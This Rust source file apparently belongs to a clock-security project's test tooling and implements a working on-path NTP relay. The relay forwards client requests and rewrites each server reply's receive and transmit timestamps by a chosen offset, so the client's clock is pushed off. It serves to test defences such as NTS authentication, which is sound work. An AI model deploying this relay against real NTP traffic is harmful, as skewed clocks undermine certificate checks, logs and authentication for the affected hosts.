//! `relay`: an on-path attacker between an NTP client and its server. It forwards each
//! request unchanged and moves every reply's receive and transmit timestamps on by a fixed
//! amount, as an attacker who wants the client's clock that far off would. There is no MAC
//! to recompute in plain NTP; an NTS reply's authenticator covers the header, so the
//! rewritten reply no longer verifies.

use super::*;

/// Receive and transmit timestamps of an NTP header (RFC 5905 §7.3), 64-bit fixed point.
const RECEIVE_AT: usize = 32;
const TRANSMIT_AT: usize = 40;

/// Moves an NTP timestamp (seconds << 32 | fraction) on by `by_ns`.
pub(crate) fn shift_timestamp(stamp: u64, by_ns: i64) -> u64 {
    let by_fixed = (i128::from(by_ns) << 32) / NS_PER_S;
    stamp.wrapping_add(by_fixed as u64)
}

/// Rewrites a reply in place: both server timestamps moved on by `by_ns`. False when it
/// is too short to be an NTP reply (then left as it is).
pub(crate) fn forge_reply(reply: &mut [u8], by_ns: i64) -> bool {
    if reply.len() < PACKET_LEN {
        return false;
    }
    for at in [RECEIVE_AT, TRANSMIT_AT] {
        let field: [u8; 8] = reply[at..at + 8].try_into().expect("8 bytes");
        let moved = shift_timestamp(u64::from_be_bytes(field), by_ns);
        reply[at..at + 8].copy_from_slice(&moved.to_be_bytes());
    }
    true
}

pub(crate) fn relay_cmd(args: &[String]) -> Result<Value, String> {
    let opts = Opts::parse(args, &["--listen", "--upstream", "--forge-s"], 0)?;
    let listen = resolve(opts.required("--listen")?)?;
    let upstream = resolve(opts.required("--upstream")?)?;
    let forge_ns = match opts.get("--forge-s") {
        Some(text) => seconds_to_ns("--forge-s", text)?,
        None => 0,
    };
    let clients = UdpSocket::bind(listen).map_err(|e| format!("bind {listen}: {e}"))?;
    let server = UdpSocket::bind(if upstream.is_ipv4() {
        "0.0.0.0:0"
    } else {
        "[::]:0"
    })
    .and_then(|s| s.connect(upstream).map(|()| s))
    .map_err(|e| format!("upstream {upstream}: {e}"))?;
    for socket in [&clients, &server] {
        socket
            .set_read_timeout(Some(Duration::from_millis(200)))
            .map_err(|e| e.to_string())?;
    }
    let stop = clockguard_sys::test_calls::stop_on_sigterm_or_sigint()
        .map_err(|e| format!("sigaction: {e}"))?;
    let mut out = std::io::stdout();
    writeln!(out, "{}", json!({"listening": listen.to_string()}))
        .and_then(|_| out.flush())
        .map_err(|e| format!("stdout: {e}"))?;
    // Requests one way, replies the other; replies go to the client heard last.
    let last_client = std::sync::Mutex::new(None::<SocketAddr>);
    let (requests, replies) = std::thread::scope(|scope| {
        let to_server = scope.spawn(|| {
            let mut buf = [0u8; 2048];
            let mut relayed = 0u64;
            while !stop.load(Ordering::Relaxed) {
                if let Ok((n, from)) = clients.recv_from(&mut buf) {
                    *last_client.lock().expect("not poisoned") = Some(from);
                    if server.send(&buf[..n]).is_ok() {
                        relayed += 1;
                    }
                }
            }
            relayed
        });
        let mut buf = [0u8; 2048];
        let mut forged = 0u64;
        while !stop.load(Ordering::Relaxed) {
            let Ok(n) = server.recv(&mut buf) else {
                continue;
            };
            let client = *last_client.lock().expect("not poisoned");
            if let Some(client) = client {
                if forge_reply(&mut buf[..n], forge_ns) {
                    forged += 1;
                }
                let _ = clients.send_to(&buf[..n], client);
            }
        }
        (to_server.join().expect("the request relay"), forged)
    });
    Ok(json!({"relayed_requests": requests, "forged_replies": replies}))
}
